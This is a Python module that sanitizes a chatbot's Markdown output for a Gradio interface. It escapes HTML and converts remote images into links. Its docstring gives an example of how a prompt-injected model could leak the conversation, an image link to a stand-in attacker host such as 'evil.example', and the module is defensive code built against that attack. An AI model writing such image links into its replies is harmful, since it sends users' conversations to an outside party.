"""Model text made safe to render: it may never make the visitor's browser fetch anything.

A reply is Markdown, and Gradio renders Markdown and HTML in it. A prompt-injected model could write
`![x](https://evil.example/?q=<conversation>)` or `<img src=…>` and leak the conversation through the URL the
browser fetches. So, outside code, raw HTML is shown as text, and images become links unless they are data
URIs or files this app serves itself. Code spans and fenced code blocks are left as they are: they are
displayed, never rendered.
"""

from __future__ import annotations

import re

# Fenced blocks (``` or ~~~, to their closing fence or the end) and inline code spans.
_CODE = re.compile(r"(```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|`[^`\n]+`)", re.DOTALL)
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)\n]*)?\s*\)")
_INLINE_SOURCES = ("data:image/", "/gradio_api/file=")
ESCAPED_LT = "&lt;"


def unescaped(text: str) -> str:
    """A shown reply's text as the model wrote it (what the conversation sends back to the model)."""
    return text.replace(ESCAPED_LT, "<")


def safe_markdown(text: str) -> str:
    """`text` with raw HTML escaped and remote images turned into links, outside code."""
    if not text:
        return text
    pieces = _CODE.split(text)
    # split() with one group puts the code pieces at odd indices.
    return "".join(piece if index % 2 else _safe_prose(piece) for index, piece in enumerate(pieces))


def _safe_prose(text: str) -> str:
    # Without "<" there is no tag; entities such as "&lt;img…&gt;" then render as text, never as HTML.
    text = text.replace("\x00", "").replace("<", ESCAPED_LT)
    text = _IMAGE.sub(_image_or_link, text)
    # Reference-style images (![alt][ref]) and anything else image-shaped become plain links; the images
    # kept inline were marked with a NUL, which no rendered text holds.
    return text.replace("![", "[").replace("\x00[", "![")


def _image_or_link(match: re.Match) -> str:
    alt, url = match.group(1), match.group(2)
    if url.startswith(_INLINE_SOURCES) and "\x00" not in alt:
        return f"\x00[{alt}]({url})"
    return f"[🖼 {alt or 'image'}]({url})"
